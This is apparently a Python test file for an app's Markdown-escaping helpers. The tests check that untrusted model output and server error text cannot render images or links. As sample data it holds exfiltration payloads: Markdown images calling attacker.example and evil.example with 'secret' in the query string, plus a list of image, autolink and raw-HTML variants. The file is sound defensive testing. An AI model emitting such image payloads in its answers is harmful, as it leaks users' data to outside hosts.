"""Untrusted model output never makes the viewer's browser fetch a remote image."""

from __future__ import annotations

from lib.common.safe_text import display_markdown
from tests.api_double import ApiDouble, Reply
from tests.test_tool_loop import _app
from tests.stubs import StubServer

EXFIL = "Done. ![x](https://attacker.example/p.png?q=secret)"


def test_markdown_images_become_literal_text_and_links_stay() -> None:
    assert display_markdown(EXFIL) == "Done. !\\[x](https://attacker.example/p.png?q=secret)"
    assert display_markdown("[docs](https://example.org)") == "[docs](https://example.org)"
    assert display_markdown("no images here") == "no images here"


def test_tool_page_shows_an_injected_image_as_text() -> None:
    with ApiDouble() as double, StubServer() as stub:
        double.queue(Reply(text=EXFIL))
        at = _app(double, stub)
        at.chat_input[0].set_value("hello").run()
        assert not at.exception
        shown = [m.value for m in at.markdown if "attacker.example" in m.value]
        assert shown and all("!\\[x]" in v for v in shown)


def test_counts_read_as_english() -> None:
    from lib.common.safe_text import plural

    assert [plural(n, "model") for n in (0, 1, 2)] == ["0 models", "1 model", "2 models"]


def test_a_servers_words_show_as_written_with_no_image_no_link() -> None:
    """An upstream error body is untrusted: `![](url)` in it must not become an image every viewer's browser
    fetches (a tracking pixel), nor a link (bracketed or bare), nor formatting: every Markdown character is escaped."""
    import re

    from lib.common.safe_text import literal

    hostile = "Bad ![pixel](http://evil.example/p.png?c=secret) see [here](http://evil.example) **now** `x` _y_"
    out = literal(hostile)
    unescaped = re.findall(r"(?<!\\)[!\[\]()*_`:]", out)
    assert unescaped == [], unescaped
    assert re.sub(r"\\(.)", r"\1", out) == hostile  # what a reader sees is exactly what the server wrote


# --- as_text / code: every untrusted string that is not the answer (issue 19) -------------------------------------

PIXEL = "http://127.0.0.1:8765/p.png"


def _unescaped(markdown: str, chars: str) -> list[str]:
    """The characters of `chars` in `markdown` that no backslash escapes (an escaped backslash escapes nothing)."""
    found, i = [], 0
    while i < len(markdown):
        if markdown[i] == "\\":
            i += 2
            continue
        if markdown[i] in chars:
            found.append(markdown[i])
        i += 1
    return found


def _shown(markdown: str) -> str:
    """What a reader sees of escaped text: every backslash escape resolved."""
    import re

    return re.sub(r"\\(.)", r"\1", markdown, flags=re.S)


HOSTILE = [
    f"![x]({PIXEL})",  # an image
    f"[docs]({PIXEL})",  # a link
    f"<{PIXEL}>",  # an autolink
    f'<img src="{PIXEL}"> <b>x</b>',  # raw HTML
    f"![x][1]\n\n[1]: {PIXEL}",  # a reference-style image and its definition
    f"see {PIXEL} now",  # a bare URL
    f"\\![x]({PIXEL}) \\\\![y]({PIXEL})",  # backslashes before the image
    f"`code` ![x]({PIXEL}) ``a`b``",  # code spans around an image
    f"&#33;[x]({PIXEL}) &amp; $x^2$ :red[x] :material/home:",  # entities, math, Streamlit's own Markdown
    "# Title\n1. one\n2) two\n- three\n+ four\n> quote\n\nunder\n===\n---\n| a | b |\n|---|---|",  # blocks
]


def test_as_text_leaves_no_markdown_that_could_fetch_or_link_and_shows_the_text_as_written() -> None:
    from lib.common.safe_text import as_text

    for text in HOSTILE:
        out = as_text(text)
        assert _unescaped(out, "[]<>`&$*_~|#\\") == [], (text, out)
        assert "material/" not in out  # Streamlit's icon shortcode is read before the Markdown
        assert _shown(out) == text, (text, out)
        for line in out.replace("\r", "\n").split("\n"):
            stripped = line.lstrip(" \t")
            assert not stripped[:1] or stripped[0] not in "-+=>", (text, line)  # no list, underline or quote
            assert not __import__("re").match(r"\d+[.)]", stripped), (text, line)  # no numbered list


def test_as_text_keeps_everyday_names_and_numbers_as_they_are() -> None:
    from lib.common.safe_text import as_text

    for text in ("Llama 3.1 405B", "Llama 3.2 90B Vision on NVIDIA API catalog · 2.4 s · 1,234 tokens",
                 "Brave Search API", "meta/llama-3.1-405b-instruct (asked for it)", "Done!"):
        assert as_text(text) == text


def test_as_text_escapes_a_backslash_so_it_cannot_unescape_what_follows() -> None:
    from lib.common.safe_text import as_text

    assert as_text("\\![x](u)") == "\\\\!\\[x\\](u)"
    assert _unescaped(as_text("\\\\[x](u)"), "[]") == []


def test_as_text_can_keep_code_spans_which_never_fetch_or_link() -> None:
    from lib.common.safe_text import as_text

    ours = "Pick a free model (on OpenRouter the ones ending in `:free`)."
    assert as_text(ours, keep_code=True) == ours
    mixed = f"`![x]({PIXEL})` then ![y]({PIXEL}) and ``a`b``"
    out = as_text(mixed, keep_code=True)
    assert out.startswith(f"`![x]({PIXEL})` then !\\[y\\](http\\://") and out.endswith(" and ``a`b``")
    # An unclosed or multi-line backtick run is no code span: escaped like the rest.
    for text in (f"`open ![x]({PIXEL})", f"`a\n![x]({PIXEL})`"):
        out = as_text(text, keep_code=True)
        assert _unescaped(out, "[]`") == [] and _shown(out) == text


def test_code_span_is_one_span_however_many_backticks_or_lines_the_text_holds() -> None:
    import re

    from lib.common.safe_text import code_span

    assert code_span('brave_search(query="x")') == '`brave_search(query="x")`'
    assert code_span("a`b") == "``a`b``"
    assert code_span("`x``") == "``` `x`` ```"
    assert code_span(f"x\n\n![y]({PIXEL})") == f"`x  ![y]({PIXEL})`"  # a blank line would end the paragraph
    assert code_span("") == ""
    for text in ("a`b", "`x``", "``", f"q`) ![x]({PIXEL}) (`"):
        out = code_span(text)
        fence = re.match(r"`+", out).group()
        inner = out[len(fence):-len(fence)]
        assert out.endswith(fence) and fence not in re.findall(r"`+", inner), out  # nothing closes it early


def test_an_imported_error_shows_its_title_and_message_as_written() -> None:
    from lib.hosts.errors import ErrorKind, UserError
    from lib.common.safe_text import error_as_text

    err = UserError(ErrorKind.UNKNOWN, f"Oops ![t]({PIXEL})", f"See [here]({PIXEL}) or `MODELS_API_KEY`.",
                    detail=f"![d]({PIXEL})", status=400)
    safe = error_as_text(err)
    assert safe.title == "Oops !\\[t\\](http\\://127.0.0.1\\:8765/p.png)"
    assert safe.message.startswith("See \\[here\\]") and safe.message.endswith("or `MODELS_API_KEY`.")
    assert (safe.detail, safe.status, safe.kind) == (err.detail, 400, ErrorKind.UNKNOWN)  # show_error escapes detail
